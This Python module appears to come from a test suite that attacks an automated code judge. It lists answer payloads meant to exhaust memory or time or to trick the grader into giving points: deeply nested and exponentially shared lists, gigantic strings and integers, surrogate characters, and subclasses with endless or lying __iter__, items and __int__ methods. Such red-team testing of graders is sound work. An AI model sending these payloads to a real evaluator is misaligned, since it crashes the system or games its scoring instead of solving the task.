"""Answer with lists, dicts, texts and numbers that are too many, too deep or too long.

Success: the judge runs out of memory or time, stumbles, or gives points.
"""

from attacks.exhausting.parts import submissions

LIMITS = {"call_seconds": 0.4, "total_seconds": 2, "memory_mb": 1024}
BODIES = r"""
answer = []
for _ in range(10**6):
    answer = [answer]
return answer

return {str(n): n for n in range(10**6)}

return 'x' * 10**8

return 10 ** 10**6

return [[]] * 10**6

answer = []
for _ in range(60):
    answer = [answer, answer]
return answer

return {'x' * 10**7: 1}

return ['\ud800' * 10**6, '\U0001F600' * 10**5]

return [float('nan')] * 190_000

class Endless(list):
    def __iter__(self):
        return iter(int, 1)
return Endless([1])

class Long(dict):
    def items(self):
        while True:
            yield 'a', 1
return Long(a=1)

class Big(int):
    def __abs__(self):
        return 0
    def __int__(self):
        return 10**5000
return Big()
"""


def build(folder):
    return submissions(folder, BODIES)
